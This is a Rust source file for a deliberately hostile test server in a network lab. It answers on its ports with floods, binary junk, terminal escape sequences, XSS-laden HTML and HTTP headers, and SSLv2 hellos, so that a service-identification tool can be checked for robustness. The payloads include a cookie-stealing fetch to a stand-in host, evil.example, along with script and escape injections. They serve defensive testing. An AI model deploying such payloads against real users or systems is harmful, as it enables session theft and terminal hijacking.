//! A hostile service for the netlab: ports that answer the way an attacker
//! (or a broken device) might, to prove that identification stays bounded
//! in time and memory, keeps only sanitised evidence, and never crashes.
//!
//! ```text
//! hostile_service [--bind ADDRESS] [--tls-backend ADDRESS:PORT] MODE=PORT...
//! ```
//!
//! Modes:
//! - `flood`:  a 10 MB banner without a line end, then close.
//! - `junk`:   4 KiB of binary junk (NULs, 0xff, high bytes), then hold.
//! - `ansi`:   terminal escape sequences (clear screen, retitle, colours,
//!   bell), then hold.
//! - `html`:   HTML and JavaScript as a greeting, then hold.
//! - `http`:   answers any HTTP request with escapes in the headers and
//!   script in the title.
//! - `silent`: accepts and never speaks.
//! - `sslv2`:  answers an SSL 2.0 CLIENT-HELLO with a SERVER-HELLO that
//!   agrees to two cipher kinds (DROWN-era servers still do), then closes;
//!   a TLS hello goes on to `--tls-backend ADDRESS:PORT` (an old TLS
//!   server), as one server speaking both would answer it.
//!
//! "Hold" means the connection stays open, reading and discarding, until
//! the client closes it (or 60 s pass). `--bind` defaults to 127.0.0.1; the
//! netlab passes the host's own address. Only the standard library is used.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::process::ExitCode;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, OnceLock};
use std::thread;
use std::time::{Duration, Instant};

/// Connections served at once; more are closed at once.
const MAX_CONNECTIONS: usize = 256;

/// Where `sslv2` mode sends TLS hellos (`--tls-backend`).
static TLS_BACKEND: OnceLock<SocketAddr> = OnceLock::new();

/// How long a held connection may stay open.
const HOLD_FOR: Duration = Duration::from_secs(60);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    Flood,
    Junk,
    Ansi,
    Html,
    Http,
    Silent,
    Sslv2,
}

impl Mode {
    fn parse(name: &str) -> Option<Mode> {
        Some(match name {
            "flood" => Mode::Flood,
            "junk" => Mode::Junk,
            "ansi" => Mode::Ansi,
            "html" => Mode::Html,
            "http" => Mode::Http,
            "silent" => Mode::Silent,
            "sslv2" => Mode::Sslv2,
            _ => return None,
        })
    }
}

fn main() -> ExitCode {
    match parse_args(std::env::args().skip(1)) {
        Ok((bind, listeners)) => serve(bind, listeners),
        Err(message) => {
            eprintln!("hostile_service: {message}");
            eprintln!(
                "usage: hostile_service [--bind ADDRESS] [--tls-backend ADDRESS:PORT] MODE=PORT... (modes: flood junk ansi html http silent sslv2)"
            );
            ExitCode::from(2)
        }
    }
}

fn parse_args(args: impl Iterator<Item = String>) -> Result<(IpAddr, Vec<(Mode, u16)>), String> {
    let mut bind = IpAddr::V4(Ipv4Addr::LOCALHOST);
    let mut listeners = Vec::new();
    let mut args = args.peekable();
    while let Some(arg) = args.next() {
        if arg == "--tls-backend" {
            let value = args.next().ok_or("--tls-backend needs ADDRESS:PORT")?;
            let backend = value
                .parse()
                .map_err(|_| format!("--tls-backend {value:?} is not ADDRESS:PORT"))?;
            let _ = TLS_BACKEND.set(backend);
            continue;
        }
        if arg == "--bind" {
            let value = args.next().ok_or("--bind needs an address")?;
            bind = value
                .parse()
                .map_err(|_| format!("--bind {value:?} is not an IP address"))?;
            continue;
        }
        let (mode, port) = arg
            .split_once('=')
            .ok_or_else(|| format!("{arg:?} is not MODE=PORT"))?;
        let mode = Mode::parse(mode).ok_or_else(|| format!("unknown mode {mode:?} in {arg:?}"))?;
        let port = port
            .parse::<u16>()
            .ok()
            .filter(|p| *p != 0)
            .ok_or_else(|| format!("{port:?} in {arg:?} is not a port"))?;
        listeners.push((mode, port));
    }
    if listeners.is_empty() {
        return Err("no MODE=PORT given".into());
    }
    Ok((bind, listeners))
}

fn serve(bind: IpAddr, listeners: Vec<(Mode, u16)>) -> ExitCode {
    let active = Arc::new(AtomicUsize::new(0));
    let mut threads = Vec::new();
    for (mode, port) in listeners {
        let address = SocketAddr::new(bind, port);
        let listener = match TcpListener::bind(address) {
            Ok(listener) => listener,
            Err(error) => {
                eprintln!("hostile_service: cannot listen on {address}: {error}");
                return ExitCode::from(1);
            }
        };
        eprintln!("hostile_service: {mode:?} on {address}");
        let active = active.clone();
        threads.push(thread::spawn(move || accept_loop(listener, mode, active)));
    }
    for handle in threads {
        let _ = handle.join();
    }
    ExitCode::SUCCESS
}

fn accept_loop(listener: TcpListener, mode: Mode, active: Arc<AtomicUsize>) {
    for stream in listener.incoming() {
        let Ok(stream) = stream else { continue };
        if active.fetch_add(1, Ordering::SeqCst) >= MAX_CONNECTIONS {
            active.fetch_sub(1, Ordering::SeqCst);
            continue; // dropped: closed at once
        }
        let active = active.clone();
        thread::spawn(move || {
            let _ = stream.set_write_timeout(Some(Duration::from_secs(30)));
            answer(stream, mode);
            active.fetch_sub(1, Ordering::SeqCst);
        });
    }
}

fn answer(mut stream: TcpStream, mode: Mode) {
    match mode {
        Mode::Flood => {
            let block = vec![b'A'; 64 * 1024];
            for _ in 0..160 {
                if stream.write_all(&block).is_err() {
                    return;
                }
            }
        }
        Mode::Junk => {
            if stream.write_all(&junk(4096)).is_ok() {
                hold(stream);
            }
        }
        Mode::Ansi => {
            let escapes = b"\x1b[2J\x1b[H\x1b]0;you have been owned\x07\x1b[5;31mALERT\x1b[0m \x1b[8mhidden\x1b[28m\x1b[?1049h\x1b[1000D\x9b6n\r\n";
            if stream.write_all(escapes).is_ok() {
                hold(stream);
            }
        }
        Mode::Html => {
            let page = b"<html><head><title><script>alert(document.cookie)</script></title></head><body onload=\"fetch('http://evil.example/'+document.cookie)\"><img src=x onerror=alert(1)><iframe src=javascript:alert(2)></iframe></body></html>\r\n";
            if stream.write_all(page).is_ok() {
                hold(stream);
            }
        }
        Mode::Http => http(stream),
        Mode::Silent => hold(stream),
        Mode::Sslv2 => sslv2(stream),
    }
}

/// Waits for a hello, then answers as an SSL 2.0 server would: message
/// type 4, version 0.2, a stand-in certificate, two cipher kinds (3DES and
/// RC4) and a connection id.
fn sslv2(mut stream: TcpStream) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
    let mut hello = [0u8; 1024];
    let Ok(received) = stream.read(&mut hello) else {
        return;
    };
    if received == 0 {
        return;
    }
    // A TLS record (handshake, type 22): let the old TLS server answer.
    if hello[0] == 22 {
        if let Some(backend) = TLS_BACKEND.get() {
            relay(stream, &hello[..received], *backend);
        }
        return;
    }
    let certificate = [0x30, 0x03, 0x02, 0x01, 0x00];
    let ciphers = [0x07, 0x00, 0xc0, 0x01, 0x00, 0x80];
    let mut body = vec![4, 0, 1, 0x00, 0x02];
    body.extend_from_slice(&(certificate.len() as u16).to_be_bytes());
    body.extend_from_slice(&(ciphers.len() as u16).to_be_bytes());
    body.extend_from_slice(&16u16.to_be_bytes());
    body.extend_from_slice(&certificate);
    body.extend_from_slice(&ciphers);
    body.extend_from_slice(&[0x5a; 16]);
    let mut message = (body.len() as u16 | 0x8000).to_be_bytes().to_vec();
    message.extend_from_slice(&body);
    let _ = stream.write_all(&message);
}

/// Sends `first` and the rest of `client`'s bytes to `backend`, and the
/// backend's answers back, until either side closes.
fn relay(client: TcpStream, first: &[u8], backend: SocketAddr) {
    let Ok(mut server) = TcpStream::connect_timeout(&backend, Duration::from_secs(5)) else {
        return;
    };
    if server.write_all(first).is_err() {
        return;
    }
    let (Ok(mut client_reader), Ok(mut server_writer)) = (client.try_clone(), server.try_clone())
    else {
        return;
    };
    let upstream = thread::spawn(move || {
        let _ = std::io::copy(&mut client_reader, &mut server_writer);
        let _ = server_writer.shutdown(std::net::Shutdown::Write);
    });
    let mut client = client;
    let _ = std::io::copy(&mut server, &mut client);
    let _ = client.shutdown(std::net::Shutdown::Both);
    let _ = upstream.join();
}

/// Reads and discards until the client closes or [`HOLD_FOR`] passes.
fn hold(mut stream: TcpStream) {
    let started = Instant::now();
    let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
    let mut sink = [0u8; 4096];
    while started.elapsed() < HOLD_FOR {
        match stream.read(&mut sink) {
            Ok(0) => return,
            Ok(_) => {}
            Err(error)
                if matches!(
                    error.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => return,
        }
    }
}

/// Waits for a request (or anything), then answers with a hostile page.
fn http(mut stream: TcpStream) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
    let mut request = [0u8; 4096];
    if !matches!(stream.read(&mut request), Ok(n) if n > 0) {
        return;
    }
    let body = "<html><title>\x1b]0;owned\x07<script>alert(1)</script></title><a href=\"javascript:alert(2)\">x</a></html>";
    let response = format!(
        "HTTP/1.1 200 OK\r\nServer: \x1b[2J\x1b[31mEvilServer/6.6.6\x1b[0m <script>alert(3)</script>\r\nX-Powered-By: \x07\x07PHP/5.2.17\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let _ = stream.write_all(response.as_bytes());
}

/// Deterministic binary junk: every byte value, NULs and 0xff included.
fn junk(length: usize) -> Vec<u8> {
    let mut state: u32 = 0x5043_4c53;
    (0..length)
        .map(|index| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            match index % 64 {
                0 => 0x00,
                1 => 0xff,
                _ => (state >> 24) as u8,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(list: &[&str]) -> Result<(IpAddr, Vec<(Mode, u16)>), String> {
        parse_args(list.iter().map(|s| (*s).to_owned()))
    }

    #[test]
    fn arguments_name_modes_and_ports() {
        let (bind, listeners) =
            args(&["--bind", "198.18.0.5", "flood=7001", "silent=7006"]).unwrap();
        assert_eq!(bind, "198.18.0.5".parse::<IpAddr>().unwrap());
        assert_eq!(listeners, [(Mode::Flood, 7001), (Mode::Silent, 7006)]);
        assert!(args(&[]).unwrap_err().contains("no MODE=PORT"));
        assert!(args(&["noise=1"]).unwrap_err().contains("unknown mode"));
        assert!(args(&["junk=0"]).unwrap_err().contains("not a port"));
        assert!(args(&["--bind", "lab"]).unwrap_err().contains("not an IP"));
    }

    #[test]
    fn junk_has_every_kind_of_byte() {
        let bytes = junk(4096);
        assert_eq!(bytes.len(), 4096);
        assert!(bytes.contains(&0) && bytes.contains(&0xff) && bytes.iter().any(|b| *b > 0x80));
    }
}
